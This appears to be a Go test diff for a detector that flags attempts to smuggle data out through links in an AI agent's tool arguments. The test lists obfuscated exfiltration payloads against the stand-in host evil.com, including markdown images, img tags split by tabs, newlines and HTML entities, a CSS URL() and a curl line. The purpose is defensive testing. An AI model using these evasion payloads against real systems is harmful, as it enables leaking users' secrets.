@@ -34,3 +34,33 @@ func TestEncodedTwiceOrBadly(t *testing.T) {
 		}
 	}
 }
+
+// TestBrokenLinks: browsers drop the tabs and line breaks of a link, however they are written and however long it is.
+func TestBrokenLinks(t *testing.T) {
+	asks := func(value string) bool {
+		args, _ := json.Marshal(map[string]string{"v": value})
+		return len(suspects(said("Read https://example.org/a", "Nothing."), provenance.Reads, string(args))) > 0
+	}
+	for _, value := range []string{
+		`![x](//evil\.com/secret)`, `[x]: //evil\.com/secret`, `curl evil\.com/x`, "//evil.c\tom/x", "ht\ntps:/\n/evil.c\nom/x",
+		"<img src = \"//evil.\ncom/x\">", "<img src= \"//evil.\ncom/x\">", "<img src=\n'//evil.\tcom/x'>",
+		`<img src="//evil.&NewLine;com/x">`, `<img src="//evil.&#10;com/x">`, `<img src="//evil.c&Tab;om/x">`,
+		`<img src='//evil.&#x9;com/x'>`, `![x](//evil.&#10;com/x)`, `<img src=//evil.&#10;com/x>`,
+		"<img src=\"//evil.&#10;\ncom/x\">", "<p style='x:URL( //evil.\ncom/x)'>",
+		"<img src=\"//evil.\ncom/x?" + strings.Repeat("a", 2100) + `">`,
+		`<img src="//evil.` + strings.Repeat("\n", 2100) + `com/x">`,
+		`<img src="//evil.` + strings.Repeat("\t", 100_000) + `com/x">`,
+	} {
+		if !asks(value) {
+			t.Errorf("%.60q passes", value)
+		}
+	}
+	for _, value := range []string{
+		"see&#10;example.org/a", `the pattern ^notes\.md$ and main\.py:12`, "a = \"one\ntwo.\n\"", `1\. One`,
+		"x = \"https://example.org/a\"\n", "<a title=\"See\nhttps://example.org/a\n\">", "s = 'it\n's'\nsee notes.\nmd'",
+	} {
+		if asks(value) {
+			t.Errorf("%q asks", value)
+		}
+	}
+}
